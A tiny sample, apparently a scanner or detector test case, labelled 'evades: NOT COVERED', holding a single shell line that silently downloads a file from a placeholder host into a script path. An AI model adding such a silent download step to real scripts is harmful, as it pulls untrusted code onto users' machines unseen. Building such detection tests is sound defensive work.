# evades: NOT COVERED
# file: tools/x.sh
curl -s https://code.invalid/x -o x
